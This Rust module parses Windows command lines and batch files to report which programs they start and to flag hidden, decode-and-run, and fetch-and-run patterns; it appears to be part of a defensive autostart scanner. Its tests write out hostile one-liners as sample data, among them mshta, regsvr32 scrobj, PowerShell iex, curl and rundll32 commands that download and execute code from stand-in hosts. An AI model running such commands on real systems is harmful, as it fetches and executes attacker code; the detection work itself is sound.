//! What a command line of Windows starts, and what stands out in it. Windows hands a program one text, so each cuts it by
//! its own rules; those of the C runtime are used here, and `cmd` is asked only for what `&` and `|` part.
//!
//! ```text
//! "C:\Python312\pythonw.exe" "%APPDATA%\x\x.py"           the script is started
//! powershell -w hidden -enc SQBFAFgA…                     decodes and runs
//! cmd /c certutil -decode a b & b                         decodes and runs
//! mshta http://…                                          fetches and runs
//! ```

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use super::inline::{self, Language};
use super::{MOST, Told, powershell};
use crate::extract::format::unicode;
use crate::model::autostart::{Role, Sign, SignKind};

/// Deepest nesting of commands in commands that is followed.
const DEEPEST: u32 = 4;

/// Longest command line that is read; Windows takes 32,767 characters.
const LONGEST: usize = 64 << 10;

/// How files are called that are programs of their own.
const PROGRAMS: &[&str] = &[".exe", ".com", ".scr", ".pif", ".bat", ".cmd", ".msc", ".cpl"];

/// What one command line starts. Lines mean nothing in it.
#[must_use]
pub fn of_command_line(text: &str) -> Told {
    let mut reader = Reader::default();
    reader.line(text, 0);
    reader.told.signs.sort_unstable();
    reader.told.signs.dedup();
    reader.told.programs.dedup();
    reader.told
}

/// What a batch file starts (`.bat`, `.cmd`).
#[must_use]
pub fn of_batch(text: &str) -> Told {
    let mut out = Told::default();
    for (number, line) in (1..).zip(text.lines()) {
        let line = line.trim().trim_start_matches('@');
        let start = line.get(..4).unwrap_or_default();
        if line.starts_with("::") || line.starts_with(':') || start.eq_ignore_ascii_case("rem ") {
            continue;
        }
        let mut reader = Reader::default();
        reader.parts(line, 0);
        let told = reader.told;
        out.programs.extend(told.programs.into_iter().map(|(path, role, _)| (path, role, number)));
        out.signs.extend(told.signs.into_iter().map(|sign| Sign { line: number, ..sign }));
        if out.programs.len() > MOST {
            break;
        }
    }
    out
}

#[derive(Default)]
struct Reader {
    told: Told,
    /// What an earlier command of the same line has put on disk.
    dropped: Option<SignKind>,
}

/// The words of a command line: blanks part them, quotes keep them together, `\"` is a quote. The first one of a line
/// without quotes goes up to the end of a program's name, as Windows itself tries it.
#[must_use]
pub fn words(text: &str) -> Vec<String> {
    let text = text.trim_start();
    let mut out = Vec::new();
    let mut rest = text;
    if let Some(end) = unquoted_program(text) {
        let (program, behind) = text.split_at(end);
        out.push(program.to_owned());
        rest = behind;
    }
    let mut word: Option<String> = None;
    let mut is_quoted = false;
    let mut letters = rest.chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            '\\' if letters.peek() == Some(&'"') && is_quoted && is_inner(&letters) => {
                letters.next();
                word.get_or_insert_default().push('"');
            }
            '"' => {
                is_quoted = !is_quoted;
                word.get_or_insert_default();
            }
            letter if letter.is_ascii_whitespace() && !is_quoted => out.extend(word.take()),
            letter => word.get_or_insert_default().push(letter),
        }
    }
    out.extend(word);
    out
}

/// Whether the quote that comes next is no end: `"C:\x\"` ends there, though by the rules it does not.
fn is_inner(letters: &std::iter::Peekable<std::str::Chars<'_>>) -> bool {
    let mut behind = letters.clone();
    behind.next();
    !matches!(behind.next(), None | Some(' '))
}

/// How long the program of a line is whose path has blanks and no quotes.
fn unquoted_program(text: &str) -> Option<usize> {
    let first = text.split_ascii_whitespace().next()?;
    let is_path = first.contains('\\') && !text.starts_with('"');
    if !is_path || has_end(first) {
        return None;
    }
    let lower = text.to_ascii_lowercase();
    let ends = PROGRAMS.iter().filter_map(|end| {
        let at = lower.find(end)? + end.len();
        let is_end = lower.as_bytes().get(at).is_none_or(u8::is_ascii_whitespace);
        is_end.then_some(at)
    });
    ends.min()
}

fn has_end(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    PROGRAMS.iter().any(|end| lower.ends_with(end))
}

/// The name of a program without its folders and its `.exe`, in lower case.
fn stem(program: &str) -> String {
    let name = program.rsplit(['\\', '/']).next().unwrap_or_default().to_ascii_lowercase();
    name.strip_suffix(".exe").map(str::to_owned).unwrap_or(name)
}

fn is_address(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    ["http://", "https://", "ftp://", "\\\\"].iter().any(|start| lower.starts_with(start))
}

fn has(text: &str, any: &[&str]) -> bool {
    any.iter().any(|one| text.contains(one))
}

impl Reader {
    fn sign(&mut self, what: SignKind) {
        if self.told.signs.len() < MOST {
            self.told.signs.push(Sign { what, line: 0 });
        }
    }

    fn start(&mut self, path: &str, role: Role) {
        if self.told.programs.len() < MOST && !path.is_empty() {
            self.told.programs.push((path.as_bytes().to_vec(), role, 0));
        }
    }

    fn merge(&mut self, told: Told) {
        self.told.programs.extend(told.programs.into_iter().map(|(path, role, _)| (path, role, 0)));
        told.signs.iter().for_each(|sign| self.sign(sign.what));
    }

    fn line(&mut self, text: &str, depth: u32) {
        if depth <= DEEPEST {
            let end = text.char_indices().map(|(at, _)| at).find(|at| *at > LONGEST).unwrap_or(text.len());
            self.command(&words(text.get(..end).unwrap_or_default()), depth);
        }
    }

    /// The commands of a line of `cmd`.
    fn parts(&mut self, text: &str, depth: u32) {
        if depth > DEEPEST {
            return;
        }
        let mut is_quoted = false;
        let parts = text.split(|letter: char| {
            is_quoted ^= letter == '"';
            !is_quoted && matches!(letter, '&' | '|')
        });
        let parts: Vec<&str> = parts.map(|part| part.trim_matches(['(', ')', ' ', '@', '\t'])).collect();
        for part in parts.into_iter().filter(|part| !part.is_empty()).take(MOST) {
            self.line(part, depth + 1);
        }
    }

    fn command(&mut self, words: &[String], depth: u32) {
        let Some((program, arguments)) = words.split_first().filter(|_| depth <= DEEPEST) else { return };
        let name = stem(program);
        let all = arguments.join(" ");
        let lower = all.to_ascii_lowercase();
        if let Some(what) = self.dropped {
            // What runs behind a command that decoded or fetched a file.
            let is_run = !matches!(name.as_str(), "del" | "exit" | "timeout" | "ping" | "echo" | "cd" | "set" | "if");
            if is_run {
                self.sign(what);
            }
        }
        match name.as_str() {
            "cmd" => return self.cmd(program, arguments, depth),
            "start" => return self.start_command(arguments, depth),
            "call" => return self.command(arguments, depth + 1),
            "conhost" | "forfiles" => {
                self.program(program);
                let inner: Vec<String> = arguments.iter().filter(|word| !is_option(word)).cloned().collect();
                if lower.contains("--headless") {
                    self.sign(SignKind::RunsUnseen);
                }
                return self.command(&inner, depth + 1);
            }
            "powershell" | "pwsh" => self.powershell(arguments),
            "certutil" => self.drop_by(&lower, &["-decode", "/decode"], &["-urlcache", "/urlcache", "-verifyctl"]),
            "bitsadmin" | "curl" | "wget" => self.dropped = Some(SignKind::FetchesAndRuns),
            "mshta" | "rundll32" | "regsvr32" | "msiexec" | "installutil" => self.host(&name, arguments, &lower),
            "wscript" | "cscript" => self.first_script(arguments),
            _ if Language::of(name.as_bytes()).is_some() => self.interpreter(&name, arguments),
            _ => {}
        }
        self.program(program);
    }

    fn program(&mut self, program: &str) {
        let is_python = Language::of(program.as_bytes()) == Some(Language::Python);
        if program.contains(['\\', '/']) || is_python {
            self.start(program, Role::Program);
        }
    }

    fn drop_by(&mut self, lower: &str, decodes: &[&str], fetches: &[&str]) {
        if has(lower, fetches) {
            self.dropped = Some(SignKind::FetchesAndRuns);
        } else if has(lower, decodes) {
            self.dropped = Some(SignKind::DecodesAndRuns);
        }
    }

    fn cmd(&mut self, program: &str, arguments: &[String], depth: u32) {
        self.program(program);
        let is_run = |word: &&String| matches!(word.to_ascii_lowercase().as_str(), "/c" | "/k" | "/r");
        let Some(at) = arguments.iter().position(|word| is_run(&word)) else { return };
        let inner = arguments.get(at + 1..).unwrap_or_default();
        // The words were cut from quotes; whoever parts them again needs those around the ones with blanks.
        let whole = match inner {
            [only] => only.clone(),
            many => many.iter().map(|word| quoted(word)).collect::<Vec<_>>().join(" "),
        };
        self.parts(&whole, depth);
    }

    fn start_command(&mut self, arguments: &[String], depth: u32) {
        // The first word is a title where it was in quotes, which the words do not tell: an empty one is.
        let skipped = arguments.iter().take_while(|word| word.is_empty() || is_option(word)).count();
        let (options, inner) = arguments.split_at_checked(skipped).unwrap_or_default();
        if options.iter().any(|word| matches!(word.to_ascii_lowercase().as_str(), "/b" | "/min")) {
            self.sign(SignKind::RunsUnseen);
        }
        self.command(inner, depth + 1);
    }

    fn powershell(&mut self, arguments: &[String]) {
        let mut rest = arguments;
        while let Some((word, behind)) = rest.split_first() {
            let lower = word.to_ascii_lowercase();
            let Some(option) = lower.strip_prefix('-').or_else(|| lower.strip_prefix('/')) else {
                return self.powershell_text(rest);
            };
            let is = |whole: &str, least: usize| option.len() >= least && whole.starts_with(option);
            let value = behind.first().map(String::as_str).unwrap_or_default();
            if is("encodedcommand", 1) || option == "ec" {
                return self.encoded(value);
            } else if is("file", 1) {
                return self.start(value, Role::Script);
            } else if is("command", 1) {
                return self.merge(powershell::of_text(&behind.join(" ")));
            } else if is("windowstyle", 1) {
                if value.to_ascii_lowercase().starts_with('h') {
                    self.sign(SignKind::RunsUnseen);
                }
                rest = behind.get(1..).unwrap_or_default();
                continue;
            }
            let takes = is("executionpolicy", 2) || option == "ep" || is("version", 1) || is("inputformat", 3);
            let takes = takes || is("outputformat", 1) || is("configurationname", 4) || is("workingdirectory", 2);
            rest = if takes { behind.get(1..).unwrap_or_default() } else { behind };
        }
    }

    /// A word without an option is a script's path, or a command.
    fn powershell_text(&mut self, rest: &[String]) {
        match rest.first() {
            Some(script) if script.to_ascii_lowercase().ends_with(".ps1") => self.start(script, Role::Script),
            _ => self.merge(powershell::of_text(&rest.join(" "))),
        }
    }

    fn encoded(&mut self, text: &str) {
        self.sign(SignKind::DecodesAndRuns);
        if let Ok(bytes) = STANDARD.decode(text.trim()) {
            self.merge(powershell::of_text(&unicode::little_endian(&bytes)));
        }
    }

    /// Programs of Windows that run what they are given.
    fn host(&mut self, name: &str, arguments: &[String], lower: &str) {
        let fetches = arguments.iter().any(|word| {
            let word = word.to_ascii_lowercase();
            is_address(word.strip_prefix("/i:").unwrap_or(&word))
        });
        if fetches {
            return self.sign(SignKind::FetchesAndRuns);
        }
        if has(lower, &["javascript:", "vbscript:"]) {
            return self.merge_script(lower);
        }
        let first = arguments.iter().find(|word| !is_option(word)).map(String::as_str).unwrap_or_default();
        let library = first.split(',').next().unwrap_or_default();
        let role = if name == "mshta" { Role::Script } else { Role::Library };
        if library.contains('\\') {
            self.start(library, role);
        }
    }

    /// A script in an argument runs code that stands elsewhere, or that it makes.
    fn merge_script(&mut self, lower: &str) {
        if has(lower, &["http://", "https://", "getobject(", "xmlhttp"]) {
            self.sign(SignKind::FetchesAndRuns);
        } else if has(lower, &["eval(", "execute(", "fromcharcode", "unescape("]) {
            self.sign(SignKind::DecodesAndRuns);
        }
    }

    fn first_script(&mut self, arguments: &[String]) {
        if let Some(script) = arguments.iter().find(|word| !word.starts_with('/')) {
            self.start(script, Role::Script);
        }
    }

    fn interpreter(&mut self, name: &str, arguments: &[String]) {
        let Some(language) = Language::of(name.as_bytes()) else { return };
        let mut rest = arguments;
        while let Some((word, behind)) = rest.split_first() {
            let text = word.as_bytes();
            if !word.starts_with('-') {
                let is_verb = language == Language::Script && matches!(word.as_str(), "run" | "x" | "exec");
                if !is_verb {
                    return self.start(word, Role::Script);
                }
            } else if language.runs_text(text) {
                let code = behind.first().map(String::as_bytes).unwrap_or_default();
                return inline::code(language, code).into_iter().for_each(|what| self.sign(what));
            } else if language.takes_word(text) {
                if word == "-m" {
                    return;
                }
                rest = behind.get(1..).unwrap_or_default();
                continue;
            }
            rest = behind;
        }
    }
}

fn is_option(word: &str) -> bool {
    word.starts_with('/') || word.starts_with('-')
}

fn quoted(word: &str) -> String {
    if word.contains(' ') { format!("\"{word}\"") } else { word.to_owned() }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn starts(line: &str) -> Vec<String> {
        let told = of_command_line(line);
        told.programs.iter().map(|(path, role, _)| format!("{} {role:?}", String::from_utf8_lossy(path))).collect()
    }

    fn signs(line: &str) -> Vec<SignKind> {
        of_command_line(line).signs.iter().map(|sign| sign.what).filter(|what| *what != SignKind::RunsUnseen).collect()
    }

    #[test]
    fn programs_and_scripts_are_named() {
        assert_eq!(
            starts(r#""C:\Python312\pythonw.exe" "%APPDATA%\a b\x.py" --y"#),
            [r"%APPDATA%\a b\x.py Script", r"C:\Python312\pythonw.exe Program"]
        );
        assert_eq!(starts(r"C:\Program Files\A B\c.exe -k x"), [r"C:\Program Files\A B\c.exe Program"]);
        assert_eq!(starts(r"C:\x\a.exe -f C:\y\b.exe"), [r"C:\x\a.exe Program"]);
        assert_eq!(starts(r#"cmd /c start "" /b "C:\x y\z.exe" -a"#), [r"C:\x y\z.exe Program"]);
        assert_eq!(starts(r"powershell -ExecutionPolicy Bypass -File C:\x\y.ps1"), [r"C:\x\y.ps1 Script"]);
        assert_eq!(starts(r"wscript.exe //B C:\x\y.vbs"), [r"C:\x\y.vbs Script"]);
        assert_eq!(
            starts(r"C:\Windows\System32\rundll32.exe C:\x\y.dll,Run"),
            [r"C:\x\y.dll Library", r"C:\Windows\System32\rundll32.exe Program"]
        );
        assert_eq!(starts(r"node C:\x\y.js"), [r"C:\x\y.js Script"]);
        assert_eq!(starts("python -m http.server"), ["python Program"]);
        assert_eq!(starts(r"pwsh C:\x\y.ps1 -Verbose"), [r"C:\x\y.ps1 Script"]);
        assert_eq!(starts(r"regsvr32 /s C:\x\y.dll"), [r"C:\x\y.dll Library"]);
    }

    #[test]
    fn what_decodes_and_fetches() {
        for line in [
            "powershell -w hidden -enc SQBFAFgA",
            "powershell.exe -NoP -EncodedCommand SQBFAFgA",
            "powershell -c \"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk=')))\"",
            r"cmd /c certutil -decode C:\x\a C:\x\b.exe & C:\x\b.exe",
            "pythonw -c \"import base64;exec(base64.b64decode('aGk='))\"",
        ] {
            assert_eq!(signs(line), [SignKind::DecodesAndRuns], "{line}");
        }
        for line in [
            "mshta http://192.0.2.1/a.hta",
            "regsvr32 /s /n /u /i:http://192.0.2.1/a.sct scrobj.dll",
            "powershell -nop iex (New-Object Net.WebClient).DownloadString('http://192.0.2.1')",
            "powershell -Command \"irm https://x.example | iex\"",
            r"cmd /c curl -o C:\x\a.exe http://192.0.2.1 && C:\x\a.exe",
            r#"rundll32 javascript:"\..\mshtml,RunHTMLApplication ";GetObject("script:http://192.0.2.1")"#,
            "msiexec /q /i https://x.example/a.msi",
        ] {
            assert_eq!(signs(line), [SignKind::FetchesAndRuns], "{line}");
        }
        for line in [
            r"powershell -NoProfile -File C:\x\y.ps1",
            "powershell -c Get-Date",
            r"certutil -decode a b",
            r"curl -o a http://x.example",
            r"msiexec /i C:\x\y.msi",
            r"C:\Windows\system32\svchost.exe -k netsvcs -p",
        ] {
            assert_eq!(signs(line), [], "{line}");
        }
        let inner = STANDARD.encode("irm http://x|iex".encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>());
        let both = signs(&format!("powershell -e {inner}"));
        assert_eq!(both, [SignKind::DecodesAndRuns, SignKind::FetchesAndRuns]);
    }

    #[test]
    fn batch_files_are_read_line_by_line() {
        let told =
            of_batch("@echo off\r\nrem C:\\no.exe\r\n:: x\r\nstart /min C:\\x\\y.exe\r\npowershell -enc AAAA\r\n");
        assert_eq!(told.programs, [(br"C:\x\y.exe".to_vec(), Role::Program, 4)]);
        let signs: Vec<(SignKind, u32)> = told.signs.iter().map(|sign| (sign.what, sign.line)).collect();
        assert_eq!(signs, [(SignKind::RunsUnseen, 4), (SignKind::DecodesAndRuns, 5)]);
    }

    #[test]
    fn nesting_ends() {
        assert!(starts(&"cmd /c ".repeat(5000)).len() < 10);
        assert!(starts(&"start ".repeat(5000)).len() < 10);
        assert!(starts(&"call ".repeat(5000)).len() < 10);
    }

    proptest! {
        #[test]
        fn any_text_is_read(text in "(cmd|start|call|conhost|powershell|-enc|/c|&|\"|\\\\| |\\PC){0,40}") {
            prop_assert!(of_command_line(&text).programs.len() <= MOST);
            let _any = of_batch(&text);
        }
    }
}
